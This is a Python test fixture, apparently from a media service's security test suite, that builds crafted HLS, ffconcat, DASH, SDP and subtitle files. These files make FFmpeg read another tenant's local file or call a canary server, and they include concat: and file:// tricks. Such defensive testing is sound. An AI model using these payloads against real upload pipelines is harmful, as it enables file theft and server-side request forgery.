"""Text files in which FFmpeg would read what else to open: another tenant's file, or somebody's server."""

from collections.abc import Callable
from pathlib import Path

from tests.attacks.conftest import Canary

# A file name's ending says nothing to whoever uploads; FFmpeg looks into the file.
WriteText = Callable[[Path, Canary], str]


def hls_of_a_file(other: Path, _canary: Canary) -> str:
    return f"#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n{other}\n#EXT-X-ENDLIST\n"


def hls_of_a_file_as_an_address(other: Path, _canary: Canary) -> str:
    return f"#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\nfile://{other}\n#EXT-X-ENDLIST\n"


def hls_of_a_server(_other: Path, canary: Canary) -> str:
    return f"#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n{canary.url}/segment.ts\n#EXT-X-ENDLIST\n"


def hls_with_a_key_of_a_server(other: Path, canary: Canary) -> str:
    key = f'#EXT-X-KEY:METHOD=AES-128,URI="{canary.url}/key",IV=0x00000000000000000000000000000000'
    return f"#EXTM3U\n#EXT-X-TARGETDURATION:9\n{key}\n#EXTINF:9,\n{other}\n#EXT-X-ENDLIST\n"


def hls_that_joins_a_file_to_an_address(other: Path, canary: Canary) -> str:
    joined = f"concat:{canary.url}/head.m3u8|file://{other}"
    return f"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\n{joined}\n#EXT-X-ENDLIST\n"


def list_of_files(other: Path, canary: Canary) -> str:
    return f"ffconcat version 1.0\nfile {other}\nfile {canary.url}/a.wav\n"


def dash_manifest(_other: Path, canary: Canary) -> str:
    return (
        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" '
        'mediaPresentationDuration="PT9S"><Period><AdaptationSet mimeType="audio/mp4"><Representation id="1" '
        f'bandwidth="1"><BaseURL>{canary.url}/a.mp4</BaseURL></Representation></AdaptationSet></Period></MPD>'
    )


def session_description(_other: Path, canary: Canary) -> str:
    return f"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=audio {canary.port} RTP/AVP 0\n"


def subtitles_of_a_file(other: Path, _canary: Canary) -> str:
    return f"[Script Info]\n; {other}\n[Events]\nDialogue: 0,0:00:00.00,0:00:09.00,,,,,,,{other}\n"


PLAYLISTS: tuple[WriteText, ...] = (
    hls_of_a_file,
    hls_of_a_file_as_an_address,
    hls_of_a_server,
    hls_with_a_key_of_a_server,
    hls_that_joins_a_file_to_an_address,
    list_of_files,
    dash_manifest,
    session_description,
    subtitles_of_a_file,
)
